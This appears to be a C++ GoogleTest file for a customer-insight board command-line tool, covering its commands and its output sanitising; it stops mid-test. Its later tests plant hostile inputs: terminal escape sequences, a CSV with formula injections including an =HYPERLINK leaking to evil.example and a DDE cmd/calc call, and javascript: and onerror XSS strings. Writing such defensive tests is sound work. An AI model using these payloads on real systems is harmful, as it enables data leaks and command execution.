// The command line as a user runs it: the real customer-canvas binary on real files.

// cereal's JSON header first: it decides how rapidjson reports errors (see json_listing.cpp).
#include <cereal/archives/json.hpp>
#include <rapidjson/document.h>

#include <fcntl.h>
#include <gtest/gtest.h>
#include <poll.h>
#include <pty.h>
#include <pwd.h>
#include <signal.h>
#include <sqlite3.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <cstdlib>
#include <ctime>
#include <filesystem>
#include <map>
#include <regex>
#include <set>

#include "storage/board_file.h"
#include "canvas/geometry.h"
#include "cli_util.h"
#include "test_util.h"

using cc::test::execSql;
using cc::test::readFile;
using Result = cc::test::Run;
using cc::test::TempDir;

namespace {

/// Runs a program with extra environment variables (test_util.h's run).
Result runWithEnv(const std::vector<std::string>& args, const std::map<std::string, std::string>& env) {
    return cc::test::run(args, env);
}

/// The author the program should fall back to: the OS user's name (as settings.cpp finds it).
std::string osUser() {
    if (const passwd* pw = ::getpwuid(::getuid()); pw && pw->pw_name && *pw->pw_name) return pw->pw_name;
    if (const char* u = std::getenv("USER"); u && *u) return u;
    return "unknown";
}

/// The files in a folder, apart from the -wal and -shm files SQLite keeps next to a board it
/// has open (a read-only connection cannot remove them; the next read-write one does).
std::set<std::string> dirEntries(const std::filesystem::path& dir) {
    std::set<std::string> out;
    for (const auto& e : std::filesystem::directory_iterator(dir)) {
        const std::string name = e.path().filename().string();
        auto endsWith = [&](const std::string& s) {
            return name.size() > s.size() && name.compare(name.size() - s.size(), s.size(), s) == 0;
        };
        if (!endsWith(".ccboard-wal") && !endsWith(".ccboard-shm")) out.insert(name);
    }
    return out;
}

long long changeLogRows(const std::string& board) {
    auto file = cc::BoardFile::open(board, cc::BoardFile::Mode::ReadOnly);
    return file->database().execAndGet("SELECT count(*) FROM change_log").getInt64();
}


/// True when the text holds a CJK ideograph (U+4E00..U+9FFF).
bool hasChinese(const std::string& s) {
    for (std::size_t i = 0; i + 2 < s.size(); ++i) {
        const auto c = static_cast<unsigned char>(s[i]);
        if ((c & 0xF0) != 0xE0) continue;
        const unsigned cp = ((c & 0x0F) << 12) | ((static_cast<unsigned char>(s[i + 1]) & 0x3F) << 6) |
                            (static_cast<unsigned char>(s[i + 2]) & 0x3F);
        if (cp >= 0x4E00 && cp <= 0x9FFF) return true;
    }
    return false;
}

const std::vector<std::string> kSourceKeys{
    "brain_scan",      "census",         "trend_spotting",   "complaint",        "feedback",
    "deep_immersion",  "customer_panel", "survey",           "external_analysis", "focus_group",
    "mystery_shopping", "omnibus_survey", "intuition",        "previous_engagement", "staff_anecdote",
    "third_party_db",  "transaction_db", "voice_of_customer", "web_callcenter",   "events",
    "other"};

struct Cli : ::testing::Test {
    TempDir dir;
    std::string board = dir.file("canvas.ccboard");
    std::map<std::string, std::string> env{{"XDG_CONFIG_HOME", dir.file("config")}, {"HOME", dir.file("home")}};

    /// Runs customer-canvas with these arguments, with settings in the test's own folder.
    Result cc(std::vector<std::string> args) {
        args.insert(args.begin(), CC_BINARY);
        return runWithEnv(args, env);
    }

    /// Runs a command that must succeed; returns its stdout.
    std::string ok(const std::vector<std::string>& args) {
        Result r = cc(args);
        EXPECT_EQ(r.status, 0) << args[0] << ": " << r.err;
        EXPECT_EQ(r.err, "") << args[0];
        return r.out;
    }

    /// Writes `bytes` where `marker` stands in `table`.`column`, as another program (sqlite3) would:
    /// the command line refuses such text, so hostile text reaches a board this way.
    void plant(const std::string& table, const std::string& column, const std::string& marker, const std::string& bytes) {
        std::string hex;
        for (unsigned char c : bytes) {
            static const char* kDigits = "0123456789ABCDEF";
            hex += kDigits[c >> 4];
            hex += kDigits[c & 15];
        }
        const Result r = cc::test::run({"/usr/bin/sqlite3", board, "UPDATE " + table + " SET " + column + " = replace(" + column +
                                                                       ", '" + marker + "', CAST(X'" + hex + "' AS TEXT))"});
        ASSERT_EQ(r.status, 0) << r.err;
    }

    /// Adds a note; checks that the output is one id and returns it.
    std::string add(std::vector<std::string> args) {
        args.insert(args.begin(), {"add", board});
        const std::string out = ok(args);
        static const std::regex kId("n-[a-z0-9]{10}\n");
        EXPECT_TRUE(std::regex_match(out, kId)) << "'" << out << "'";
        return cc::test::chomp(out);
    }

    rapidjson::Document listJson(const std::string& path) {
        Result r = cc({"list", path, "--json"});
        EXPECT_EQ(r.status, 0) << r.err;
        rapidjson::Document d;
        d.Parse(r.out.c_str(), r.out.size());
        EXPECT_FALSE(d.HasParseError()) << r.out.substr(0, 200);
        EXPECT_TRUE(d.IsObject());
        return d;
    }
    rapidjson::Document listJson() { return listJson(board); }

    static const rapidjson::Value* find(const rapidjson::Value& array, const std::string& id) {
        for (const auto& v : array.GetArray())
            if (v["id"].GetString() == id) return &v;
        return nullptr;
    }

    void newBoard(const std::string& title = "零售银行客户画布 Retail Canvas") {
        EXPECT_EQ(ok({"new", board, "--title", title, "--template", "canvas", "--lang", "both"}), "created " + board + "\n");
    }
};

std::vector<std::string> strings(const rapidjson::Value& array) {
    std::vector<std::string> out;
    for (const auto& v : array.GetArray()) out.push_back(v.GetString());
    return out;
}

}  // namespace

TEST_F(Cli, NewMakesABoardFromEachTemplate) {
    newBoard();
    auto d = listJson();
    EXPECT_STREQ(d["board"]["title"].GetString(), "零售银行客户画布 Retail Canvas");
    EXPECT_STREQ(d["board"]["template"].GetString(), "canvas");
    ASSERT_EQ(d["quadrants"].Size(), 4u);
    const std::vector<std::string> canvas{"Profile · 客户画像", "Behaviour · 行为", "Attitudes · 态度与感受",
                                          "Needs & aspirations · 需求与期望"};
    for (unsigned i = 0; i < 4; ++i) {
        EXPECT_EQ(d["quadrants"][i]["index"].GetInt(), int(i + 1));
        EXPECT_EQ(d["quadrants"][i]["title"].GetString(), canvas[i]);
        EXPECT_GT(d["quadrants"][i]["description"].GetStringLength(), 10u);
        EXPECT_EQ(d["quadrants"][i]["notes"].GetInt(), 0);
    }
    EXPECT_EQ(d["notes"].Size(), 0u);
    EXPECT_EQ(d["links"].Size(), 0u);

    const std::string empathy = dir.file("empathy.ccboard"), custom = dir.file("custom.ccboard");
    ok({"new", empathy, "--title", "Empathy 同理心", "--template", "empathy", "--lang", "both"});
    auto e = listJson(empathy);
    EXPECT_STREQ(e["board"]["template"].GetString(), "empathy");
    EXPECT_EQ(std::string(e["quadrants"][0]["title"].GetString()).rfind("Says", 0), 0u);
    EXPECT_EQ(std::string(e["quadrants"][3]["title"].GetString()).rfind("Feels", 0), 0u);
    ok({"new", custom, "--template", "custom", "--lang", "both"});
    auto c = listJson(custom);
    EXPECT_STREQ(c["board"]["template"].GetString(), "custom");
    EXPECT_STREQ(c["board"]["title"].GetString(), "custom");  // the file name without extension
    EXPECT_EQ(std::string(c["quadrants"][1]["title"].GetString()).rfind("Quadrant 2", 0), 0u);

    // A template that does not exist, or a board that does: refused, nothing made or changed.
    Result bad = cc({"new", dir.file("x.ccboard"), "--template", "swot"});
    EXPECT_EQ(bad.status, 2);
    EXPECT_FALSE(std::filesystem::exists(dir.file("x.ccboard")));
    const std::string bytes = readFile(board);
    Result again = cc({"new", board, "--title", "Again"});
    EXPECT_EQ(again.status, 1);
    EXPECT_NE(again.err.find("already exists"), std::string::npos) << again.err;
    EXPECT_EQ(readFile(board), bytes);
}

TEST_F(Cli, AddPrintsAnIdAndStoresEveryField) {
    newBoard();
    const std::string text = "Young customers see us as their parents' bank\n焦点小组 16 人：稳重、安全，也说“老派”";
    const std::string id = add({"--text", text, "--source", "focus_group", "--quadrant", "3", "--date", "2026-07-28",
                                "--tag", "年轻客户", "--tag", "brand", "--segment", "Young professionals", "--author",
                                "Sarah Chen"});
    const std::string tray = add({"--text", "A candidate 候选", "--source", "complaint"});
    auto d = listJson();
    ASSERT_EQ(d["notes"].Size(), 2u);
    const rapidjson::Value* n = find(d["notes"], id);
    ASSERT_NE(n, nullptr);
    for (const char* key : {"id", "text", "source", "quadrant", "x", "y", "date", "author", "tags", "segment", "state",
                            "votes", "provenance", "created", "updated"})
        EXPECT_TRUE(n->HasMember(key)) << key;
    for (const char* key : {"file", "location", "excerpt"}) EXPECT_TRUE((*n)["provenance"].HasMember(key)) << key;
    EXPECT_EQ((*n)["text"].GetString(), text);
    EXPECT_STREQ((*n)["source"].GetString(), "focus_group");
    EXPECT_EQ((*n)["quadrant"].GetInt(), 3);
    EXPECT_EQ(cc::quadrantAt((*n)["x"].GetDouble() + (*n)["w"].GetDouble() / 2,
                             (*n)["y"].GetDouble() + (*n)["h"].GetDouble() / 2),
              3);
    EXPECT_STREQ((*n)["date"].GetString(), "2026-07-28");
    EXPECT_STREQ((*n)["author"].GetString(), "Sarah Chen");
    EXPECT_EQ(strings((*n)["tags"]), (std::vector<std::string>{"brand", "年轻客户"}));
    EXPECT_STREQ((*n)["segment"].GetString(), "Young professionals");
    EXPECT_STREQ((*n)["state"].GetString(), "pinned");
    EXPECT_EQ((*n)["votes"].GetInt(), 0);
    EXPECT_STREQ((*n)["provenance"]["file"].GetString(), "");
    EXPECT_GT((*n)["created"].GetInt64(), 1700000000000);
    EXPECT_EQ((*n)["updated"].GetInt64(), (*n)["created"].GetInt64());
    EXPECT_EQ(d["quadrants"][2]["notes"].GetInt(), 1);

    const rapidjson::Value* t = find(d["notes"], tray);
    ASSERT_NE(t, nullptr);
    EXPECT_STREQ((*t)["state"].GetString(), "tray");
    EXPECT_EQ((*t)["quadrant"].GetInt(), 0);
    EXPECT_TRUE((*t)["customerInitiated"].GetBool()) << "complaints are started by the customer";
    EXPECT_TRUE(cc::isValidDate((*t)["date"].GetString())) << "the date defaults to today";
}

TEST_F(Cli, EditChangesTextSourceQuadrantTagsAndState) {
    newBoard();
    const std::string id = add({"--text", "Original 原文", "--source", "survey", "--quadrant", "1", "--tag", "old"});
    const std::string tray = add({"--text", "From the tray", "--source", "census"});
    const auto created = listJson()["notes"][0]["created"].GetInt64();

    EXPECT_EQ(ok({"edit", board, id, "--text", "Changed 改过\nsecond line"}), "updated " + id + "\n");
    EXPECT_EQ(ok({"edit", board, id, "--source", "complaint"}), "updated " + id + "\n");
    ok({"edit", board, id, "--quadrant", "2"});
    ok({"edit", board, id, "--tag", "fees", "--tag", "手续费", "--segment", "退休客户", "--votes", "4"});
    ok({"edit", board, id, "--date", "2026-02-28", "--colour", "#12AB34"});
    auto d = listJson();
    const rapidjson::Value* n = find(d["notes"], id);
    ASSERT_NE(n, nullptr);
    EXPECT_STREQ((*n)["text"].GetString(), "Changed 改过\nsecond line");
    EXPECT_STREQ((*n)["source"].GetString(), "complaint");
    EXPECT_TRUE((*n)["customerInitiated"].GetBool());
    EXPECT_STREQ((*n)["data"].GetString(), "qualitative");
    EXPECT_EQ((*n)["quadrant"].GetInt(), 2);
    EXPECT_EQ(cc::quadrantAt((*n)["x"].GetDouble() + (*n)["w"].GetDouble() / 2,
                             (*n)["y"].GetDouble() + (*n)["h"].GetDouble() / 2),
              2)
        << "re-filed means moved into the quadrant";
    EXPECT_EQ(strings((*n)["tags"]), (std::vector<std::string>{"fees", "手续费"}));
    EXPECT_STREQ((*n)["segment"].GetString(), "退休客户");
    EXPECT_EQ((*n)["votes"].GetInt(), 4);
    EXPECT_STREQ((*n)["date"].GetString(), "2026-02-28");
    EXPECT_STREQ((*n)["colour"].GetString(), "#12AB34");
    EXPECT_GE((*n)["updated"].GetInt64(), created);
    EXPECT_EQ(d["quadrants"][0]["notes"].GetInt(), 0);
    EXPECT_EQ(d["quadrants"][1]["notes"].GetInt(), 1);

    ok({"edit", board, id, "--state", "archived"});
    ok({"edit", board, tray, "--quadrant", "4"});
    d = listJson();
    EXPECT_STREQ((*find(d["notes"], id))["state"].GetString(), "archived");
    EXPECT_STREQ((*find(d["notes"], tray))["state"].GetString(), "pinned");
    EXPECT_EQ((*find(d["notes"], tray))["quadrant"].GetInt(), 4);
    // A note leaving the tray needs a place.
    const std::string tray2 = add({"--text", "Another candidate", "--source", "census"});
    Result r = cc({"edit", board, tray2, "--state", "pinned"});
    EXPECT_EQ(r.status, 1);
    EXPECT_NE(r.err.find("--quadrant"), std::string::npos) << r.err;
}

TEST_F(Cli, LinkPrintsAnIdAndDeletingANoteDeletesItsLinks) {
    newBoard();
    const std::string a = add({"--text", "App transfer failure rate 3.2%", "--source", "web_callcenter", "--quadrant", "2"});
    const std::string b = add({"--text", "神秘顾客：转账失败", "--source", "mystery_shopping", "--quadrant", "2"});
    const std::string c = add({"--text", "In-app survey: transfers 8.6/10", "--source", "survey", "--quadrant", "3"});
    static const std::regex kLinkId("l-[a-z0-9]{10}\n");
    const std::string supports = ok({"link", board, b, a, "--kind", "supports", "--label", "reproduced 复现"});
    EXPECT_TRUE(std::regex_match(supports, kLinkId)) << supports;
    const std::string conflicts = ok({"link", board, c, a, "--kind", "conflicts"});
    const std::string relates = ok({"link", board, b, c, "--kind", "relates", "--label", "same journey"});
    EXPECT_TRUE(std::regex_match(relates, kLinkId)) << relates;

    auto d = listJson();
    ASSERT_EQ(d["links"].Size(), 3u);
    const rapidjson::Value* l = find(d["links"], cc::test::chomp(supports));
    ASSERT_NE(l, nullptr);
    for (const char* key : {"id", "from", "to", "kind", "label"}) EXPECT_TRUE(l->HasMember(key)) << key;
    EXPECT_EQ((*l)["from"].GetString(), b);
    EXPECT_EQ((*l)["to"].GetString(), a);
    EXPECT_STREQ((*l)["kind"].GetString(), "supports");
    EXPECT_STREQ((*l)["label"].GetString(), "reproduced 复现");
    EXPECT_STREQ((*find(d["links"], cc::test::chomp(conflicts)))["kind"].GetString(), "conflicts");
    EXPECT_TRUE((*find(d["notes"], a))["contested"].GetBool());

    // The same link twice is refused; a note cannot be linked to itself.
    Result twice = cc({"link", board, a, b, "--kind", "supports"});
    EXPECT_EQ(twice.status, 1);
    EXPECT_NE(twice.err.find("already linked"), std::string::npos) << twice.err;
    EXPECT_EQ(cc({"link", board, a, a, "--kind", "relates"}).status, 1);

    const std::string out = ok({"delete", board, a});
    EXPECT_EQ(out, "deleted note " + a + " and its 2 links\n");
    d = listJson();
    EXPECT_EQ(find(d["notes"], a), nullptr);
    ASSERT_EQ(d["links"].Size(), 1u);
    EXPECT_EQ(d["links"][0]["id"].GetString(), cc::test::chomp(relates));
    EXPECT_EQ(ok({"delete", board, cc::test::chomp(relates)}), "deleted link " + cc::test::chomp(relates) + "\n");
    EXPECT_EQ(listJson()["links"].Size(), 0u);
    Result check = cc({"check", board});
    EXPECT_EQ(check.status, 0) << check.err;
}

TEST_F(Cli, ListPrintsTheBoardForPeople) {
    newBoard();
    add({"--text", "Our customers bank with 2.7 institutions\nbody", "--source", "third_party_db", "--quadrant", "1",
         "--tag", "primacy"});
    add({"--text", "年度净推荐值 +12", "--source", "survey", "--quadrant", "3", "--votes", "4"});
    add({"--text", "Tray candidate 托盘", "--source", "other"});
    const std::string out = ok({"list", board});
    for (const char* s : {"零售银行客户画布 Retail Canvas", "Profile · 客户画像", "Behaviour · 行为", "Attitudes · 态度与感受",
                          "Needs & aspirations · 需求与期望", "Our customers bank with 2.7 institutions", "年度净推荐值 +12",
                          "#primacy", "[4 votes]", "Tray", "Tray candidate 托盘"})
        EXPECT_NE(out.find(s), std::string::npos) << s << " not in:\n" << out;
    EXPECT_EQ(out.find("\nbody"), std::string::npos) << "the list shows titles, not bodies";
}

TEST_F(Cli, SourcesListsEveryKind) {
    const std::string out = ok({"sources"});
    for (const auto& key : kSourceKeys) {
        const std::regex line("(^|\n)" + key + " +[A-Z]");
        EXPECT_TRUE(std::regex_search(out, line)) << key;
    }
    for (const char* s : {"客户投诉", "Mystery shopping", "quantitative", "indirect"})
        EXPECT_NE(out.find(s), std::string::npos) << s;
}

TEST_F(Cli, CheckPassesOnASoundBoardAndFailsOnABrokenOne) {
    newBoard();
    const std::string a = add({"--text", "Pinned in 1", "--source", "survey", "--quadrant", "1"});
    const std::string b = add({"--text", "Pinned in 4", "--source", "survey", "--quadrant", "4"});
    ok({"link", board, a, b, "--kind", "relates"});
    Result good = cc({"check", board});
    EXPECT_EQ(good.status, 0) << good.err;
    EXPECT_NE(good.out.find("ok"), std::string::npos) << good.out;
    EXPECT_NE(good.out.find("2 notes"), std::string::npos) << good.out;

    // Behind the program's back: a pinned note filed in a quadrant it does not sit in.
    execSql(board, "UPDATE note SET quadrant = 2 WHERE id = '" + a + "'");
    Result bad = cc({"check", board});
    EXPECT_EQ(bad.status, 1);
    EXPECT_NE(bad.err.find(a), std::string::npos) << bad.err;
    EXPECT_NE(bad.err.find("quadrant"), std::string::npos) << bad.err;
    execSql(board, "UPDATE note SET quadrant = 1 WHERE id = '" + a + "'");
    EXPECT_EQ(cc({"check", board}).status, 0);

    // A link to a note that is not there.
    execSql(board, "PRAGMA foreign_keys = OFF; DELETE FROM note WHERE id = '" + b + "'");
    Result dangling = cc({"check", board});
    EXPECT_EQ(dangling.status, 1);
    EXPECT_NE(dangling.err.find(b), std::string::npos) << dangling.err;
}

TEST_F(Cli, ExportThenRestoreGivesTheSameBoard) {
    newBoard();
    const std::string a = add({"--text", "转账投诉 1,126 件", "--source", "complaint", "--quadrant", "2", "--tag", "mobile",
                               "--date", "2026-11-10", "--votes", "5"});
    const std::string b = add({"--text", "Tell me before you charge me", "--source", "voice_of_customer", "--quadrant", "4",
                               "--segment", "Young professionals"});
    add({"--text", "candidate", "--source", "survey"});
    ok({"link", board, a, b, "--kind", "supports", "--label", "费用 fees"});
    ok({"edit", board, a, "--quadrant", "3"});
    const std::string backup = dir.file("backup.json");
    const std::string out = ok({"export", board, "--out", backup});
    EXPECT_NE(out.find("3 notes and 1 links"), std::string::npos) << out;
    const std::string restored = dir.file("restored.ccboard");
    EXPECT_EQ(ok({"restore", backup, restored}), "restored " + backup + " into " + restored + "\n");
    EXPECT_EQ(cc({"list", restored, "--json"}).out, cc({"list", board, "--json"}).out);
    EXPECT_EQ(changeLogRows(restored), changeLogRows(board));
    EXPECT_EQ(cc({"check", restored}).status, 0);

    // Exporting over a board, even the board itself, is refused.
    const std::string bytes = readFile(board);
    for (const std::string& target : {board, restored}) {
        const std::string before = readFile(target);
        Result over = cc({"export", board, "--out", target});
        EXPECT_EQ(over.status, 1);
        EXPECT_EQ(std::count(over.err.begin(), over.err.end(), '\n'), 1) << over.err;
        EXPECT_EQ(readFile(target), before);
    }
    EXPECT_EQ(cc({"check", board}).status, 0);

    // Restoring over a board is refused.
    Result over = cc({"restore", backup, board});
    EXPECT_EQ(over.status, 1);
    EXPECT_EQ(std::count(over.err.begin(), over.err.end(), '\n'), 1) << over.err;
    EXPECT_EQ(readFile(board), bytes);
}

TEST_F(Cli, RefusalsSayOneLineAndLeaveTheBoardAlone) {
    newBoard();
    const std::string a = add({"--text", "A note 一条", "--source", "survey", "--quadrant", "1"});
    const std::string b = add({"--text", "Another", "--source", "census", "--quadrant", "2"});
    ok({"link", board, a, b, "--kind", "supports"});
    struct Case {
        std::vector<std::string> args;
        int status;
        std::string mention;  ///< a word the message must hold
    };
    const std::vector<Case> cases{
        {{"add", board, "--text", "x", "--source", "astrology"}, 1, "astrology"},
        {{"edit", board, "n-doesnotexst", "--text", "x"}, 1, "n-doesnotexst"},
        {{"delete", board, "n-doesnotexst"}, 1, "n-doesnotexst"},
        {{"link", board, a, "n-doesnotexst", "--kind", "supports"}, 1, "n-doesnotexst"},
        {{"add", board, "--text", "x", "--date", "2026-13-40"}, 1, "2026-13-40"},
        {{"add", board, "--text", "x", "--date", "2026-02-30"}, 1, "2026-02-30"},
        {{"add", board, "--text", ""}, 1, "empty"},
        {{"add", board, "--text", "  \n\t "}, 1, "empty"},
        {{"add", board, "--text", "x", "--quadrant", "7"}, 2, "quadrant"},
        {{"add", board, "--text", "x", "--quadrant", "0"}, 2, "quadrant"},
        {{"add", board, "--text", "x", "--colour", "red"}, 1, "red"},
        {{"edit", board, a, "--state", "floating"}, 1, "floating"},
        {{"edit", board, a, "--tag", " "}, 1, "tag"},
        {{"link", board, a, b, "--kind", "hates"}, 2, "kind"},
        {{"link", board, a, b, "--kind", "supports"}, 1, "already linked"},
        {{"add", board}, 2, "text"},
        {{"frobnicate", board}, 2, "frobnicate"},
        {{"list", dir.file("missing.ccboard")}, 1, "missing.ccboard"},
    };
    const std::string jsonBefore = cc({"list", board, "--json"}).out;
    const long long rowsBefore = changeLogRows(board);
    for (const auto& c : cases) {
        std::string shown;
        for (const auto& s : c.args) shown += s + " ";
        SCOPED_TRACE(shown);
        const std::string bytes = readFile(board);
        const auto entries = dirEntries(dir.path());
        Result r = cc(c.args);
        EXPECT_EQ(r.status, c.status) << r.err;
        EXPECT_EQ(r.out, "");
        ASSERT_FALSE(r.err.empty());
        EXPECT_EQ(std::count(r.err.begin(), r.err.end(), '\n'), 1) << "not one line: " << r.err;
        EXPECT_EQ(r.err.back(), '\n');
        EXPECT_EQ(r.err.rfind("customer-canvas: ", 0), 0u) << r.err;
        EXPECT_NE(r.err.find(c.mention), std::string::npos) << "expected '" << c.mention << "' in: " << r.err;
        EXPECT_TRUE(readFile(board) == bytes) << "the board file's bytes changed";
        EXPECT_EQ(dirEntries(dir.path()), entries);
    }
    EXPECT_EQ(cc({"list", board, "--json"}).out, jsonBefore);
    EXPECT_EQ(changeLogRows(board), rowsBefore);
}

TEST_F(Cli, AuthorIsTheOsUserUnlessSetOrGiven) {
    newBoard();
    const std::string user = osUser();
    ASSERT_FALSE(user.empty());
    const std::string plain = add({"--text", "by the OS user", "--source", "survey"});
    const std::string given = add({"--text", "by someone", "--source", "survey", "--author", "Tom Baker"});
    // --author before the subcommand works as well as after it.
    const std::string after =
        cc::test::chomp(ok({"--author", "张强", "add", board, "--text", "option first", "--source", "survey"}));

    EXPECT_EQ(ok({"config", "author"}), user + "\n");
    EXPECT_EQ(ok({"config", "author", "李伟 Li Wei"}), "");
    EXPECT_TRUE(std::filesystem::exists(dir.file("config") + "/customer-canvas/settings.ini"));
    EXPECT_EQ(ok({"config", "author"}), "李伟 Li Wei\n");
    const std::string configured = add({"--text", "by the configured author", "--source", "survey"});
    const std::string overridden = add({"--text", "given beats configured", "--source", "survey", "--author", "Sarah Chen"});
    ok({"config", "author", "--unset"});
    const std::string unset = add({"--text", "back to the OS user", "--source", "survey"});
    const std::string link = cc::test::chomp(ok({"link", board, plain, given, "--kind", "relates", "--author", "王芳"}));

    auto d = listJson();
    auto author = [&](const std::string& id) { return std::string((*find(d["notes"], id))["author"].GetString()); };
    EXPECT_EQ(author(plain), user);
    EXPECT_EQ(author(given), "Tom Baker");
    EXPECT_EQ(author(after), "张强");
    EXPECT_EQ(author(configured), "李伟 Li Wei");
    EXPECT_EQ(author(overridden), "Sarah Chen");
    EXPECT_EQ(author(unset), user);
    EXPECT_STREQ((*find(d["links"], link))["author"].GetString(), "王芳");

    // The change log names them too.
    auto file = cc::BoardFile::open(board, cc::BoardFile::Mode::ReadOnly);
    std::vector<std::string> logAuthors;
    for (const auto& e : file->changeLog()) logAuthors.push_back(e.author);
    EXPECT_EQ(logAuthors, (std::vector<std::string>{user, user, "Tom Baker", "张强", "李伟 Li Wei", "Sarah Chen", user, "王芳"}));
}

TEST_F(Cli, TheSampleBoardScriptBuildsASoundBoard) {
    const std::string sample = dir.file("sample.ccboard");
    Result r = runWithEnv({"/bin/bash", CC_SAMPLE_SCRIPT, CC_BINARY, sample}, env);
    ASSERT_EQ(r.status, 0) << r.err;
    auto d = listJson(sample);
    const std::string title = d["board"]["title"].GetString();
    EXPECT_TRUE(hasChinese(title)) << title;
    EXPECT_NE(title.find("Customer Canvas"), std::string::npos) << title;

    const auto& notes = d["notes"];
    EXPECT_GE(notes.Size(), 30u);
    EXPECT_LE(notes.Size(), 60u);
    std::set<std::string> sources;
    std::set<int> quadrants;
    int chinese = 0, english = 0;
    static const std::regex kEnglishWords("[A-Za-z]{3,} [A-Za-z]{3,} [A-Za-z]{3,}");
    for (const auto& n : notes.GetArray()) {
        sources.insert(n["source"].GetString());
        if (std::string(n["state"].GetString()) == "pinned") quadrants.insert(n["quadrant"].GetInt());
        const std::string text = n["text"].GetString();
        chinese += hasChinese(text);
        english += std::regex_search(text, kEnglishWords);
    }
    EXPECT_EQ(quadrants, (std::set<int>{1, 2, 3, 4}));
    for (const auto& q : d["quadrants"].GetArray()) EXPECT_GT(q["notes"].GetInt(), 0);
    EXPECT_GE(sources.size(), 10u);
    EXPECT_GT(chinese, 0);
    EXPECT_GT(english, 0);
    std::map<std::string, int> kinds;
    for (const auto& l : d["links"].GetArray()) ++kinds[l["kind"].GetString()];
    EXPECT_GE(kinds["supports"], 1);
    EXPECT_GE(kinds["conflicts"], 1);

    Result check = cc({"check", sample});
    EXPECT_EQ(check.status, 0) << check.err;
    // The script will not build over an existing board.
    const std::string bytes = readFile(sample);
    Result again = runWithEnv({"/bin/bash", CC_SAMPLE_SCRIPT, CC_BINARY, sample}, env);
    EXPECT_NE(again.status, 0);
    EXPECT_EQ(readFile(sample), bytes);
}

// ---- Output that attacks the reader ------------------------------------------------------------

namespace {

/// Runs customer-canvas with its output on a pseudo-terminal, as a person at a terminal runs it;
/// returns every byte the terminal received.
std::string onTerminal(const std::vector<std::string>& args, const std::map<std::string, std::string>& env) {
    cc::test::Terminal t = cc::test::Terminal::start(args, env);
    if (t.pid < 0) return "forkpty failed";
    const int st = t.finish();
    EXPECT_TRUE(WIFEXITED(st) && WEXITSTATUS(st) == 0) << t.out;
    return t.out;
}

/// The control characters a terminal acts on: ESC, BEL, NUL and the C1 CSI (U+009B).
void expectNoTerminalControls(const std::string& out, const std::string& what) {
    EXPECT_EQ(out.find('\x1B'), std::string::npos) << what << ": " << testing::PrintToString(out);
    EXPECT_EQ(out.find('\x07'), std::string::npos) << what;
    EXPECT_EQ(out.find('\0'), std::string::npos) << what;
    EXPECT_EQ(out.find("\xC2\x9B"), std::string::npos) << what;
}

/// The month it is now (UTC), YYYY-MM: the month a note added now is summarised in.
std::string thisMonth() {
    const std::time_t t = std::time(nullptr);
    std::tm tm{};
    ::gmtime_r(&t, &tm);
    char buf[16];
    std::strftime(buf, sizeof buf, "%Y-%m", &tm);
    return buf;
}

}  // namespace

TEST_F(Cli, ListNeverSendsControlCharactersToTheTerminal) {
    const std::string clear = "\x1B[2J\x1B[H", retitle = "\x1B]0;pwned\x07", csi = "\xC2\x9B" "31m";
    // The command line refuses control characters; another program writing the file does not.
    newBoard("Board TITLE red");
    const std::string a = add({"--text", "Before CLEAR after clear", "--source", "survey", "--quadrant", "1", "--segment",
                               "Seg RETITLE ment"});
    const std::string b = add({"--text", "Tray RETITLE candidate", "--source", "complaint"});
    ok({"link", board, a, b, "--kind", "relates", "--label", "lab CSI el"});
    plant("board", "title", "TITLE", "\x1B[41m");
    plant("note", "text", "CLEAR", clear);
    plant("note", "segment", "RETITLE", retitle);
    plant("note", "text", "RETITLE", retitle);
    plant("link", "label", "CSI", csi);
    const Result piped = cc({"list", board});
    EXPECT_EQ(piped.status, 0) << piped.err;
    expectNoTerminalControls(piped.err, "the repairs said");
    for (const auto& [how, out] : {std::pair{"on a terminal", onTerminal({"list", board}, env)},
                                   std::pair{"in a pipe", piped.out}}) {
        expectNoTerminalControls(out, how);
        for (const char* shown : {"Board", "Before", "after clear", "Seg", "ment", "Tray", "candidate", "lab", "el"})
            EXPECT_NE(out.find(shown), std::string::npos) << how << ": " << shown << " not in:\n" << out;
    }
    // The JSON keeps the text, escaped: ESC as \u001B, and the C1 CSI too.
    const Result json = cc({"list", board, "--json"});
    EXPECT_EQ(json.status, 0) << json.err;
    expectNoTerminalControls(json.out, "--json");
    auto d = listJson(board);
    EXPECT_EQ(std::string((*find(d["notes"], a))["text"].GetString()).find("Before"), 0u);
    // An error message that quotes what it was given shows it the same way.
    const Result refused = cc({"delete", board, "n-" + clear});
    EXPECT_EQ(refused.status, 1);
    expectNoTerminalControls(refused.err, "an error");
    EXPECT_NE(refused.err.find("no note or link with id 'n-\\x1b[2J\\x1b[H'"), std::string::npos) << refused.err;
}

TEST_F(Cli, SummaryOfAHostileBoardIsSafeInEveryFormat) {
    newBoard("Board [x](javascript:alert(1)) <b>bold</b>");
    // A survey export whose answers, respondents and segments attack whoever opens the report,
    // imported as a person does; its file name is an attack too.
    const std::string survey = dir.file("=cmd.csv");
    cc::test::writeFile(survey,
                        "respondent,segment,answer\n"
                        "=1+1,+seg,\"=HYPERLINK(\"\"http://evil.example/?leak\"\";\"\"Click\"\")\"\n"
                        "@r2,-seg,=cmd|' /C calc'!A0\n"
                        "r3,@seg,+1+1 is a formula\n"
                        "r4,=seg,-2+3 is one too\n"
                        "r5,seg,[click me](javascript:alert(1)) and ![pixel](http://evil.example/p.png)\n"
                        "r6,seg,<img src=x onerror=alert(1)> and <http://evil.example/auto> and www.evil.example\n");
    const Result imported = cc({"--author", "@author", "import", board, survey, "--pin", "1", "--text-column", "answer",
                                "--id-column", "respondent", "--segment-column", "segment"});
    ASSERT_EQ(imported.status, 0) << imported.err;
    add({"--text", "Noncharacter NONCHAR in the middle", "--source", "survey", "--quadrant", "2"});
    add({"--text", "Ordinary note alpha", "--source", "complaint", "--quadrant", "3", "--votes", "2"});
    plant("note", "text", "NONCHAR", "\xEF\xB7\x90");
    const std::string month = thisMonth();
    auto summary = [&](const std::string& name) {
        const std::string out = dir.file(name);
        const Result r = cc({"summary", board, "--month", month, "--out", out});
        EXPECT_EQ(r.status, 0) << r.err;
        EXPECT_EQ(r.out, "wrote the summary of " + month + " to " + out + "\n");
        return readFile(out);
    };

    // CSV: no cell starts a formula; the attacks are there, behind a ' and in quotes.
    const std::string csv = summary("s.csv");
    static const std::regex kFormulaCell("(^|,)\"?[=+@\\-\\t]");
    for (std::size_t at = 0, end; at < csv.size(); at = end + 2) {
        end = csv.find("\r\n", at);
        if (end == std::string::npos) end = csv.size();
